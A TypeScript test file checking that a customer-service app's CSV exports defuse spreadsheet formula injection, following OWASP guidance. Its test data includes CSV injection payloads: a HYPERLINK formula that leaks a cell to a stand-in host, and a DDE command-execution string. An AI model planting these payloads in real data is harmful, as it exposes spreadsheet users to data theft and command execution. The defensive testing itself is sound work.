import { parse } from 'csv-parse/sync';
import type { InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordAudit } from '../../../platform/audit/index.js';
import { inboundText } from '../../../test/inbox-fakes.js';
import { createTestApp, type LoggedIn, logIn, type TestApp } from '../../../test/test-app.js';
import { createInboxPort } from '../index.js';

// Issue 11 defect 6: every export neutralises cells a spreadsheet would run as a formula (OWASP).
const HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A2,"Open invoice")';
const NAMES = [HYPERLINK, '+1+cmd', '-2+cmd', '@SUM(1+1)', '\tcmd', '\rcmd'];
const REMARK = "=cmd|' /C calc'!A0";
const FORMULA = /^[=+\-@\t\r]/;

/** Every cell of a CSV document. */
const cellsOf = (body: string): string[] => (parse(body, { relax_column_count: true }) as string[][]).flat();

function expectNeutralised(body: string, expected: string[]) {
  const cells = cellsOf(body);
  expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
  for (const value of expected) expect(cells).toContain(`'${value}`);
}

describe('CSV exports neutralise formula cells', () => {
  let sapa: TestApp;
  let adc: LoggedIn;
  let openRoomId = '';
  const inject = (options: InjectOptions) => sapa.app.inject(options);
  const get = (url: string) => inject({ method: 'GET', url, headers: adc.headers });

  async function jobFile(path: string) {
    const requested = await inject({
      method: 'POST',
      url: path,
      headers: adc.headers,
      payload: { pageSize: -1 },
    });
    expect(requested.statusCode).toBe(202);
    for (let poll = 0; poll < 100; poll++) {
      const item = (await get(`/api/cs/exports/${requested.json().id}`)).json();
      if (item.status === 'done') return (await get(`${path}/download?id=${item.id}`)).body;
      if (item.status === 'failed') throw new Error(item.error);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error('export did not finish');
  }

  beforeAll(async () => {
    sapa = await createTestApp();
    await sapa.jobs.start({ work: true });
    adc = await logIn(sapa.app, 'adc@demo.test');
    const port = createInboxPort({});
    for (const [index, name] of NAMES.entries()) {
      await port.receiveInbound(
        sapa.database.db,
        inboundText(adc.session.clientId, `62812777000${index}`, index === 0 ? '=1+2' : 'halo', {
          customerName: name,
        }),
      );
    }
    const rooms = (await get('/api/cs/chatRoom?pageSize=50')).json().items as { id: string }[];
    expect(rooms).toHaveLength(NAMES.length);
    // The room of the formula message stays open for the single-room export; the others close.
    const details = await Promise.all(
      rooms.map(async (room) => (await get(`/api/cs/chatRoom/exportToCsv?id=${room.id}`)).body),
    );
    openRoomId = rooms[details.findIndex((body) => body.includes('1+2'))]!.id;
    for (const room of rooms.filter((item) => item.id !== openRoomId)) {
      await inject({
        method: 'DELETE',
        url: '/api/cs/chatRoom?forceClose=true',
        headers: adc.headers,
        payload: { roomId: room.id, remarks: REMARK },
      });
    }
  });
  afterAll(async () => sapa?.close());

  it('GET /api/cs/customers/exportToCsv', async () => {
    const response = await get('/api/cs/customers/exportToCsv');
    expect(response.statusCode).toBe(200);
    expectNeutralised(response.body, NAMES);
  });

  it('the exportCustomer job', async () => {
    expectNeutralised(await jobFile('/api/cs/exportCustomer'), NAMES);
  });

  it('the chat-history export job and the direct history export, close remarks included', async () => {
    expectNeutralised(await jobFile('/api/cs/exportChatroomHistory'), [REMARK]);
    const direct = await get('/api/cs/chatRoom/history/export?status=closed');
    expect(direct.statusCode).toBe(200);
    expectNeutralised(direct.body, [REMARK]);
  });

  it('the single-room export', async () => {
    const response = await get(`/api/cs/chatRoom/exportToCsv?id=${openRoomId}`);
    expect(response.statusCode).toBe(200);
    expectNeutralised(response.body, ['=1+2']);
  });

  it('the agents export', async () => {
    await inject({
      method: 'POST',
      url: '/api/cs/customerService',
      headers: adc.headers,
      payload: { csName: '@Ayu', email: 'formula.agent@example.com' },
    });
    const response = await get('/api/cs/customerService/exportToCsv');
    expect(response.statusCode).toBe(200);
    expectNeutralised(response.body, ['@Ayu']);
  });

  it('the audit-trail export', async () => {
    await recordAudit(sapa.database.db, null, {
      clientId: adc.session.clientId,
      action: HYPERLINK,
      entityType: 'probe',
      entityId: '-1+1',
    });
    const response = await get('/api/audit-trail/export');
    expect(response.statusCode).toBe(200);
    expectNeutralised(response.body, [HYPERLINK, '-1+1']);
  });
});
